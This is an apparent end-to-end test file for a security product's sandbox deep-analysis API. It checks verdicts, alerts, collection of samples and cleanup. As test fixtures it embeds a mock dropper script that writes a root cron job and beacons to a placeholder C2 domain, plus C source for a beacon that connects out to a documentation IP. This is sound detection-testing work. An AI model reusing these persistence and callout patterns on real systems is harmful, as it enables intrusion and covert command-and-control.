"""Deep analysis through the server: POST /api/files/{sha256}/deepAnalysis detonates a sample
in quell-sandbox and GET shows the report.

A script collected from a lab device plants a cron job, drops and runs a binary, resolves a
domain and connects out: the report has each behaviour and the verdict malicious, and since a
Block indicator names that domain, an alert is raised on the device the sample came from. A
program only seen running on a device is collected by the analysis itself first. A file the
sandbox cannot run fails with the reason; a second request while one is open is refused; the
CLI waits with progress and exits with the verdict.
"""

import hashlib
import json
import os
import shutil
import subprocess
import urllib.parse
import uuid

import pytest

from conftest import run_cli
from lab import wait_until

C2_DOMAIN = f"c2-{uuid.uuid4().hex[:8]}.quell-e2e.example"

DROPPER = f"""#!/bin/sh
echo '* * * * * root /tmp/dropper' > /etc/cron.d/quell-e2e
cp /bin/true /tmp/dropper
chmod +x /tmp/dropper
/tmp/dropper
python3 - <<'PY'
import socket
ip = socket.gethostbyname("{C2_DOMAIN}")
s = socket.create_connection((ip, 8443), timeout=3)
s.sendall(b"BEACON id=42\\r\\n")
s.close()
PY
""".encode()

BEACON_C = r"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc > 1) { puts(MARK); fflush(stdout); sleep(60); return 0; }  /* on the device: be seen */
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4444)};
  inet_pton(AF_INET, "203.0.113.77", &a.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) write(s, "HELO beacon", 11);
  close(s);
  sleep(2);
  return 0;
}
"""


def _analysis(env, sha):
    return env.api.call("GET", f"/api/files/{sha}/deepAnalysis")


def _wait_analysis(env, sha, timeout=120):
    return wait_until(lambda: (lambda a: a if a["status"] in ("Succeeded", "Failed") else None)(
        _analysis(env, sha)), timeout=timeout, interval=0.5, what=f"analysis of {sha}")


def _put(host, content, path, mode=0o755):
    staged = os.path.join(host.dir, os.path.basename(path))
    with open(staged, "wb") as f:
        f.write(content)
    r = host.run_in_host("install", "-D", "-m", oct(mode)[2:], staged, path)
    os.unlink(staged)
    assert r.returncode == 0, r.stderr


def _collect(env, mid, path):
    a = env.api.call("POST", f"/api/machines/{mid}/collectFile",
                     {"Comment": "e2e: sample", "Path": path})
    done = env.wait_action(a["id"], timeout=60)
    assert done["status"] == "Succeeded", done


def test_a_collected_dropper_is_malicious_and_a_blocked_domain_raises_an_alert(env):
    host, mid = env.victim, env.machine_id(env.victim)
    sha = hashlib.sha256(DROPPER).hexdigest()
    true_sha = hashlib.sha256(open("/bin/true", "rb").read()).hexdigest()
    _put(host, DROPPER, "/tmp/stage2.sh")
    _collect(env, mid, "/tmp/stage2.sh")
    env.api.call("POST", "/api/indicators", {
        "indicatorValue": C2_DOMAIN, "indicatorType": "DomainName", "action": "Block",
        "title": "e2e C2", "description": "e2e", "severity": "High"})

    started = env.api.call("POST", f"/api/files/{sha}/deepAnalysis", {"Comment": "e2e"},
                           expect=(201,))
    assert started["status"] in ("Pending", "InProgress")
    done = _wait_analysis(env, sha)
    assert done["status"] == "Succeeded", done
    report = done["report"]
    assert done["verdict"] == report["verdict"] == "malicious", report["verdictReasons"]
    assert report["sample"]["sha256"] == sha and report["sample"]["fileName"] == "stage2.sh"
    text = json.dumps(report["behaviors"])
    assert "/etc/cron.d/quell-e2e" in text
    assert "/tmp/dropper" in text
    assert C2_DOMAIN in report["observables"]["domains"]
    dropped = {f["path"]: f for f in report["observables"]["droppedFiles"]}
    assert dropped["/tmp/dropper"]["sha256"] == true_sha
    conn = [c for c in report["observables"]["connections"] if c["port"] == 8443]
    assert conn and conn[0]["domain"] == C2_DOMAIN and "BEACON id=42" in conn[0]["firstBytes"]
    assert any("cron" in r for r in report["verdictReasons"]), report["verdictReasons"]

    f = env.api.call("GET", f"/api/files/{sha}")
    assert f["deepAnalysis"]["verdict"] == "malicious"

    def alert():
        f = urllib.parse.quote(f"machineId eq '{mid}'")
        alerts = env.api.call("GET", f"/api/alerts?$filter={f}")["value"]
        return [a for a in alerts if a.get("detectionSource") == "DeepAnalysis"] or None
    alerts = wait_until(alert, timeout=20, what="the deep analysis alert")
    assert C2_DOMAIN in json.dumps(alerts[0]), alerts[0]


def test_a_program_only_seen_on_a_device_is_collected_then_analysed(env):
    host = env.lab.add_host("detonate")
    token = env.server.create_enrollment_token(uses=1)
    host.start_agent(env.agent_config(host, token, file_sightings_interval_seconds=2))
    mid = env.machine_id(host)
    env.wait_connected(host)
    src = os.path.join(env.base_dir, "beacon.c")
    out = os.path.join(env.base_dir, "beacon")
    with open(src, "w") as f:
        f.write(BEACON_C)
    subprocess.run(["cc", "-O1", f'-DMARK="{uuid.uuid4()}"', "-o", out, src], check=True)
    binary = open(out, "rb").read()
    sha = hashlib.sha256(binary).hexdigest()
    _put(host, binary, "/tmp/beacon")
    # Running on the device, where the agent's periodic look at running programs sees it.
    running = host.popen(["nsenter", "--target", str(host.mnt_holder.pid), "--mount", "--uts",
                          "--", "/tmp/beacon", "seen"])
    try:
        wait_until(lambda: env.api.call("GET", f"/api/files/{sha}/sightings")["value"],
                   timeout=30, what="the device to report running the program")
    finally:
        running.kill()
        running.wait()
    env.api.call("GET", f"/api/files/{sha}/download", expect=(404, 405))

    started = env.api.call("POST", f"/api/files/{sha}/deepAnalysis", {"Comment": "e2e"},
                           expect=(201,))
    assert started["collectActionId"], started
    assert "collecting the sample" in started["stage"]
    again = env.api.call("POST", f"/api/files/{sha}/deepAnalysis", {"Comment": "twice"},
                         expect=(400,))
    assert again["error"]["code"] == "ActiveRequestAlreadyExists"

    done = _wait_analysis(env, sha)
    assert done["status"] == "Succeeded", done
    report = done["report"]
    assert report["sample"]["kind"] == "elf"
    assert "203.0.113.77" in report["observables"]["ips"]
    conn = [c for c in report["observables"]["connections"] if c["port"] == 4444]
    assert conn and conn[0]["firstBytes"].startswith("HELO beacon"), conn
    assert report["verdict"] in ("suspicious", "malicious")
    assert env.api.call("GET", f"/api/files/{sha}")["collected"] is True
    host.stop_agent()


def test_a_file_the_sandbox_cannot_run_fails_with_the_reason(env):
    host, mid = env.victim, env.machine_id(env.victim)
    png = b"\x89PNG\r\n\x1a\n" + os.urandom(64)
    _put(host, png, "/tmp/picture.png", mode=0o644)
    _collect(env, mid, "/tmp/picture.png")
    sha = hashlib.sha256(png).hexdigest()
    env.api.call("POST", f"/api/files/{sha}/deepAnalysis", {"Comment": "e2e"}, expect=(201,))
    done = _wait_analysis(env, sha)
    assert done["status"] == "Failed"
    assert "unsupported file type" in done["error"], done


def test_the_cli_waits_and_exits_with_the_verdict(env):
    host, mid = env.victim, env.machine_id(env.victim)
    harmless = b"#!/bin/sh\necho hello\n# " + uuid.uuid4().hex.encode() + b"\n"
    sha = hashlib.sha256(harmless).hexdigest()
    _put(host, harmless, "/tmp/harmless.sh")
    _collect(env, mid, "/tmp/harmless.sh")
    r = run_cli(env, "file", "analyze", sha, "--comment", "e2e cli", check=False)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "verdict: no threats found" in r.stdout, r.stdout

    dropper = hashlib.sha256(DROPPER).hexdigest()  # analysed above
    shown = run_cli(env, "file", "show", dropper)
    assert "verdict malicious" in shown.stdout.lower(), shown.stdout


def _owner_gone(name, prefix):
    """Whether the quell-sandbox supervisor whose pid the name carries has exited (other
    tests may be running sandboxes of their own at the same time)."""
    try:
        pid = int(name[len(prefix):].split("-")[0])
    except ValueError:
        return True
    return not os.path.exists(f"/proc/{pid}")


def test_nothing_of_the_detonations_is_left_on_the_host():
    leftovers = [p for p in os.listdir("/tmp")
                 if p.startswith("quell-sandbox-") and _owner_gone(p, "quell-sandbox-")]
    assert leftovers == [], leftovers
    for parent in ("/sys/fs/cgroup/memory/quell-sandbox", "/sys/fs/cgroup/pids/quell-sandbox"):
        if os.path.isdir(parent):
            runs = [d for d in os.listdir(parent) if d.startswith("run-") and _owner_gone(d, "run-")]
            assert runs == [], parent
    with open("/proc/self/mountinfo") as f:
        assert "quell-sandbox" not in f.read()
